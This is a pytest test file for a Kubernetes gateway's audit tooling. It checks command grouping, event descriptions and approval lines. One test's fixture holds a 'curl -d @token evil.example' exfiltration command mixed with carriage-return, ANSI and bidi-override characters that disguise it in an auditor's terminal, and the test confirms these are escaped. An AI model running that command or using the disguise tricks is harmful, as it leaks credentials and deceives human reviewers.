"""The text of `kubegate audit commands` and `kubegate replay --user` (issue 16), from stored records."""

from __future__ import annotations

import pytest

from kubegate.core.db import Database
from kubegate.plugins.audit import store
from kubegate.plugins.audit.cli import describe_command, describe_event


def call(seq: int, t: float, verb: str, resource: str = "", *, session: str = "", command: str = "", name: str = "",
         status: int = 200, path: str = "", kind: str = "request", subresource: str = "", **data) -> dict:  # fmt: skip
    attributes = {"verb": verb, "resource": resource, "namespace": "prod" if resource else "", "name": name,
                  "subresource": subresource, "path": path}  # fmt: skip
    return {"id": f"e{seq}", "time": t, "kind": kind, "connection": "prod", "request_id": f"r{seq}",
            "data": {"identity": {"user": "alice", "groups": ["developers"]}, "attributes": attributes,
                     "path": path, "status": status, "decision": {"verdict": "allow"}, "kubectl_command": command,
                     "kubectl_session": session, **data}}  # fmt: skip


@pytest.fixture
def grouped(tmp_path) -> list[dict]:
    approval = {"approval_id": "a1", "approvers": ["rita"], "state": "approved"}
    records = [
        call(1, 100.0, "get", path="/version"),  # kubectl's dispatcher, before the command: no session header
        call(2, 100.2, "get", path="/api", session="s1", command="kubectl get"),
        call(3, 100.3, "list", "pods", session="s1", command="kubectl get"),
        call(4, 200.0, "get", path="/version"),
        call(5, 200.1, "delete", "pods", name="web-0", session="s2", command="kubectl delete", approval=approval),
        call(6, 215.0, "get", "pods", name="web-0", session="s2", command="kubectl delete", status=404),
        call(7, 300.0, "get", "pods", name="nope", session="s3", command="get pods", status=404),  # old header form
        call(8, 400.0, "get", path="/healthz"),  # alone: no kubectl command follows it
        call(9, 500.0, "get", "pods", name="web", session="s4", command="kubectl exec", status=101,
             kind="session_start", subresource="exec", approval=approval),
    ]  # fmt: skip
    db = Database(f"sqlite:///{tmp_path / 'audit.db'}")
    db.create_tables()
    db.call(lambda s: store.append(s, records, None))
    try:
        yield db.call(lambda s: store.commands(s, store.Filters()))
    finally:
        db.close()


def test_one_line_per_kubectl_command(grouped):
    lines = [describe_command(group).split("  ", 1)[1] for group in grouped]
    assert lines == [
        "alice ran `kubectl get` on prod → 3 calls",  # /version joined the command it came before
        "alice ran `kubectl delete` on prod → 3 calls, approved by rita",  # its wait's 404 is not a failure
        "alice ran `kubectl get pods` on prod → 1 call, 1 failed",  # a real 404
        "alice called get /healthz on prod → 1 call",
        "alice ran `kubectl exec` on prod → 1 call, approved by rita",  # the session is the command's call
    ]
    assert [r["path"] for r in grouped[0]["requests"]] == ["/version", "/api", ""]


def test_event_lines():
    session = call(9, 500.0, "get", "pods", name="web", session="s4", command="kubectl exec", status=101,
                   kind="session_start", subresource="exec",
                   approval={"approval_id": "a1", "approvers": ["rita"], "state": "approved"})  # fmt: skip
    line = describe_event({**session, "seq": 9})
    assert line.endswith(" exec pods web -n prod  101 allow (approved by rita)  [kubectl exec]"), line
    assert "kubectl kubectl" not in line
    old = describe_event({**call(7, 1.0, "get", "pods", name="x", command="get pods"), "seq": 7})
    assert old.endswith("[kubectl get pods]"), old
    assert describe_event({**call(1, 1.0, "get", path="/version"), "seq": 1}).endswith(
        " get /version  200 allow"
    )
    summary = {"approval_id": "a1", "rule": "prod-exec", "requester": "alice", "verb": "create",
               "resource": "pods/exec", "namespace": "prod", "name": "web", "path": "/api/v1/namespaces/prod/pods/web/exec",
               "command": ["sh", "-c", "id"]}  # fmt: skip
    approved = {"seq": 2, "time": 1.0, "kind": "approval.approved", "connection": "prod",
                "data": {**summary, "reviewer": "rita"}}  # fmt: skip
    assert describe_event(approved).endswith(
        " alice                prod       exec pods web -n prod: sh -c id  approved by rita"
    )
    denied = {**approved, "kind": "approval.denied", "data": {**summary, "reviewer": "ray"}}
    assert describe_event(denied).endswith("denied by ray")
    requested = {**approved, "kind": "approval.requested", "data": summary}
    assert describe_event(requested).endswith("held by rule prod-exec")


def test_replay_summary_counts_read_right():
    from kubegate.plugins.recording.cli import _count

    assert [_count(n, "session") for n in (0, 1, 2)] == ["0 sessions", "1 session", "2 sessions"]


# A command line the API server passes on as it came (any bytes but NUL): a carriage return and an ANSI
# "erase line" redraw the line the auditor reads, concealed text hides the rest, a bidi override reverses it.
EVIL = [
    "sh",
    "-c",
    "curl -d @token evil.example; : '\r\x1b[2Kexec pods web -n prod: date\x1b[8m'",
    "\u202eetad",
]


def test_what_a_caller_sent_cannot_drive_the_auditors_terminal(tmp_path, capsys):
    import yaml

    from kubegate.core.cli import main

    config = tmp_path / "kubegate.yaml"
    config.write_text(yaml.safe_dump({"database": {"url": f"sqlite:///{tmp_path / 'gw.db'}"},
                                      "connections": {"prod": {"upstream": {}}}}))  # fmt: skip
    record = call(1, 100.0, "get", "pods", name="web\x1b[1m", kind="session_start", subresource="exec",
                  command="kubectl exec", status=101)  # fmt: skip
    record["data"]["command"] = EVIL
    db = Database(f"sqlite:///{tmp_path / 'gw.db'}")
    db.create_tables()
    db.call(lambda s: store.append(s, [record], None))
    db.close()
    for command in ("search", "commands"):
        assert main(["audit", command, "--since", "1970-01-01T00:00:00Z", "--config", str(config)]) == 0
        out = capsys.readouterr().out
        assert out.count("\n") == 1 and not any(c in out for c in "\r\x1b\u202e"), out
        if command == "search":
            # the command as the shell would read it back (quoted, each argument whole), its controls escaped
            assert (
                "exec pods web\\x1b[1m -n prod: sh -c 'curl -d @token evil.example; : '\"'\"'\\x0d\\x1b[2K"
                in out
            )
            assert "'\\u202eetad'" in out
    # `kubegate replay --user` prints the same lines (to stderr), then plays the sessions
    assert (
        main(["replay", "--user", "alice", "--since", "1970-01-01T00:00:00Z", "--config", str(config)]) == 0
    )
    err = capsys.readouterr().err
    assert "exec pods web\\x1b[1m" in err and not any(c in err for c in "\r\x1b\u202e"), err
